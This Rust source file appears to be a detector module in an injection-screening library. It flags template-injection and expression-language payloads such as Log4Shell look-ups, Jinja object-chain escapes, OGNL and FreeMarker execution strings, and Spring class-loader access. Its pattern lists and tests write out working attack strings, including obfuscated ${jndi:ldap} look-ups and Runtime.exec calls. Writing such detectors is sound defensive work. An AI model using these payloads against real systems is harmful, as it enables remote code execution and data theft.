//! Templates and expressions: would an engine compute something that the application did not write?
//!
//! `{{ name }}` is a placeholder, and people send plenty of them. Computing, calling, reaching for the inside of the
//! engine, assigning and importing are not placeholders. Look-ups (`${jndi:...}`) are judged with their nesting resolved.

use super::{ByteSet, Hit, Text};
use crate::decision::Class;

pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
    const NEEDED: ByteSet = ByteSet::from_list(b"{<#@(");
    if !text.bytes.intersects(NEEDED) {
        return loader(text.lower);
    }
    lookup(text.lower).or_else(|| inside(text)).or_else(|| words(text.lower)).or_else(|| loader(text.lower))
}

fn hit(class: Class, at: usize, why: &'static str) -> Option<Hit> {
    Some(Hit { class, at, why: why.into() })
}

/// `${jndi:...}` and its like, however it is pieced together.
fn lookup(lower: &[u8]) -> Option<Hit> {
    for at in memchr::memmem::find_iter(lower, b"${") {
        let near = lower.get(at..).unwrap_or_default();
        let near = near.get(..512).unwrap_or(near);
        let resolved = resolve(near);
        for prefix in [
            &b"jndi:"[..],
            b"script:javascript",
            b"url:utf",
            b"dns:address",
            b"base64decoder:",
            b"env:aws_",
            b"sys:java",
        ] {
            if resolved
                .strip_prefix(b"$")
                .unwrap_or(&resolved)
                .strip_prefix(b"{")
                .is_some_and(|r| r.starts_with(prefix))
            {
                return hit(Class::ExpressionLanguage, at, "a look-up that connects, runs or reads");
            }
        }
        // A look-up within the name of a look-up serves only to hide it.
        if near.get(2..).is_some_and(|n| n.iter().take(4).any(|b| *b == b'$'))
            && (memchr::memmem::find(near, b":-").is_some()
                || memchr::memmem::find(near, b"${lower:").is_some()
                || memchr::memmem::find(near, b"${upper:").is_some())
            && memchr::memmem::find(near, b"://").is_some()
        {
            return hit(Class::ExpressionLanguage, at, "a look-up pieced together from look-ups");
        }
    }
    None
}

/// The text with inner look-ups replaced by what they give: `${lower:j}` by `j`, `${env:x:-n}` by `n`.
fn resolve(text: &[u8]) -> Vec<u8> {
    let mut current = text.to_vec();
    for _ in 0..8 {
        let Some(open) = memchr::memmem::rfind(&current, b"${").filter(|at| *at > 0) else { break };
        let Some(close) = memchr::memchr(b'}', current.get(open..).unwrap_or_default()) else { break };
        let body = current.get(open + 2..open + close).unwrap_or_default();
        let value = match memchr::memmem::find(body, b":-") {
            Some(at) => body.get(at + 2..),
            None => memchr::memchr(b':', body).and_then(|at| body.get(at + 1..)),
        };
        let value: Vec<u8> =
            value.unwrap_or_default().iter().copied().filter(|b| !matches!(b, b'\'' | b'"')).collect();
        current.splice(open..=open + close, value);
    }
    current
}

/// What stands between the marks of an engine.
fn inside(text: &Text<'_>) -> Option<Hit> {
    let lower = text.lower;
    for (open, close, class) in MARKS {
        for at in memchr::memmem::find_iter(lower, open) {
            let body = lower.get(at + open.len()..).unwrap_or_default();
            let body = body.get(..2048).unwrap_or(body);
            let Some(end) = memchr::memmem::find(body, close) else { continue };
            let body = body.get(..end).unwrap_or_default();
            if let Some(why) = acts(body, open) {
                return hit(*class, at, why);
            }
        }
    }
    None
}

const MARKS: &[(&[u8], &[u8], Class)] = &[
    (b"{{", b"}}", Class::Template),
    (b"{%", b"%}", Class::Template),
    (b"<%", b"%>", Class::Template),
    (b"[[${", b"}]]", Class::Template),
    (b"${", b"}", Class::Template),
    (b"#{", b"}", Class::Template),
    (b"*{", b"}", Class::Template),
    (b"%{", b"}", Class::ExpressionLanguage),
    (b"@(", b")", Class::Template),
    (b"{", b"}", Class::Template),
];

/// True for what no placeholder holds.
fn acts(body: &[u8], open: &[u8]) -> Option<&'static str> {
    let body = body.strip_prefix(b"=").unwrap_or(body).trim_ascii();
    let braces = open == b"{";
    if computes(body) && !braces {
        return Some("a template that computes");
    }
    if INNER.iter().any(|w| memchr::memmem::find(body, w).is_some()) {
        let quoted_word = braces && !body.contains(&b'(');
        if !quoted_word {
            return Some("a template that reaches into the engine or the system");
        }
    }
    if body.starts_with(b"import ")
        || body.starts_with(b"php")
        || body == b"debug"
        || body.starts_with(b"debug ") && open == b"{%"
    {
        return Some("a template that imports or dumps");
    }
    if !braces && called(body) {
        return Some("a template that calls");
    }
    None
}

/// `7*7`, `7*'7'`, `1+1`: constants computed, which serves only to see whether somebody computes.
fn computes(body: &[u8]) -> bool {
    let part = |b: &u8| {
        b.is_ascii_digit()
            || matches!(b, b'*' | b'+' | b'-' | b'/' | b'%' | b' ' | b'\'' | b'"' | b'(' | b')' | b'.')
    };
    let operator = body.iter().skip(1).any(|b| matches!(b, b'*' | b'+' | b'/' | b'%' | b'-'));
    let digits = body.iter().filter(|b| b.is_ascii_digit()).count();
    operator
        && digits >= 2
        && body.iter().all(part)
        && body.first().is_some_and(|b| b.is_ascii_digit() || matches!(b, b'\'' | b'"' | b'('))
}

/// A call of something that tells: a helper's call with plain words is what templates have.
fn called(body: &[u8]) -> bool {
    const CALLS: &[&[u8]] = &[
        b"system(",
        b"exec(",
        b"popen(",
        b"eval(",
        b"passthru(",
        b"shell_exec(",
        b"open(",
        b"read(",
        b"items(",
        b"dump(",
        b"file(",
        b"getenv(",
        b"forname(",
        b"getruntime(",
        b"invoke(",
        b"start(",
        b"new(",
        b"require(",
        b"attr(",
        b"getclass(",
        b"include(",
        b"source(",
        b"constant(",
        b"registerundefined",
        b"getfilter(",
        b"setattribute(",
        b"getsession(",
        b"self.",
        b"_self",
        b"|filter(",
        b"|map(",
        b"|sort(",
        b"|reduce(",
        b"call .",
        b"printf \"%s\" .env",
        b"|join(",
        b"range.",
        b"lookup string",
    ];
    CALLS.iter().any(|c| memchr::memmem::find(body, c).is_some())
}

/// Names inside of engines, languages and their machines.
const INNER: &[&[u8]] = &[
    b"__class__",
    b"__mro__",
    b"__subclasses__",
    b"__globals__",
    b"__builtins__",
    b"__import__",
    b"__init__",
    b"__base__",
    b"_templatereference",
    b"secret_key",
    b"config.",
    b"settings.",
    b"request.application",
    b"request.environ",
    b"cycler",
    b"lipsum",
    b"joiner.",
    b"namespace.",
    b"java.lang",
    b"javax.script",
    b"java.io",
    b"getruntime",
    b"processbuilder",
    b"classloader",
    b"t(java",
    b"freemarker.template",
    b"objectconstructor",
    b"constructor.constructor",
    b"constructor(\"",
    b"constructor('",
    b"process.env",
    b"process.mainmodule",
    b"child_process",
    b"global.process",
    b"ognlcontext",
    b"_memberaccess",
    b"memberaccess",
    b"#context",
    b"@java",
    b"system.diagnostics",
    b"runtime@",
    b"pagecontext",
    b"app.request.server",
    b".class.forname",
    b"os.popen",
    b"os.system",
    b"subprocess",
    b"file.open",
    b"file.read",
    b"io.popen",
    b"system('",
    b"system(\"",
    b"`id`",
    b"#request",
    b"request.getclass",
];

/// Directives and calls of engines that need no marks.
fn words(lower: &[u8]) -> Option<Hit> {
    for (mark, class) in [
        (&b"<#assign"[..], Class::Template),
        (b"?new()", Class::Template),
        (b"$class.inspect", Class::Template),
        (b".getclass().forname", Class::Template),
        (b"process.mainmodule.require", Class::Template),
        (b"constructor.constructor(", Class::Template),
        (b"_c.constructor(", Class::Template),
        (b"(#_memberaccess", Class::ExpressionLanguage),
        (b"(#cmd=", Class::ExpressionLanguage),
        (b"@ognl.", Class::ExpressionLanguage),
        (b"t(java.lang.", Class::ExpressionLanguage),
        (b"@system.diagnostics", Class::Template),
        (b"#set($", Class::Template),
    ] {
        if let Some(at) = memchr::memmem::find(lower, mark) {
            if mark != b"#set($" || memchr::memmem::find(lower, b"class").is_some() {
                return hit(class, at, "a directive or call of a template engine");
            }
        }
    }
    None
}

/// `class.module.classLoader...`: properties of the object behind a form.
fn loader(lower: &[u8]) -> Option<Hit> {
    let at = memchr::memmem::find(lower, b"class.module.classloader")
        .or_else(|| memchr::memmem::find(lower, b"class.classloader."))?;
    hit(Class::ExpressionLanguage, at, "a way from a form's field to the class loader")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inject::sample;

    #[test]
    fn what_an_engine_would_compute() {
        for text in [
            "{{7*7}}",
            "${7*7}",
            "<%= 7*7 %>",
            "#{7*7}",
            "{{''.__class__.__mro__}}",
            "{{config.items()}}",
            "${jndi:ldap://x/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://x/z}",
            "x ${j${k8s:k5:-nd}i:dns://x}",
            "{%import os%}",
            "{{constructor.constructor('x')()}}",
            "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
            "class.module.classLoader.resources=x",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
            "{php}echo 1;{/php}",
            "{system('id')}",
            "@(1+2)",
        ] {
            assert!(sample(detect, text), "{text}");
        }
    }

    #[test]
    fn placeholders_and_sets() {
        for text in [
            "Dear {{first_name}}, your order {{ order_id }}",
            "{{ user.email | lower }}",
            "${HOME}/bin",
            "${LOG_LEVEL:-info}",
            "${{ matrix.os }}",
            "{1,2,3} \\ {2}",
            "f(x) = {7 * 7} is a set of one number",
            "${AWS::StackName}-q",
            "{{t \"orders.title\"}}",
            "{{#each items}}{{this.name}}{{/each}}",
            "{% if paid %}Thanks{% endif %}",
            "<%= user.name %>",
            "#{user} wrote",
            "${var.environment}-q",
            "{{> header}}",
            "cost: $${amount}",
            "$49.00 {incl. tax}",
            "Base price is $(100)",
            "a@(b)",
        ] {
            assert!(!sample(detect, text), "{text}");
        }
    }
}
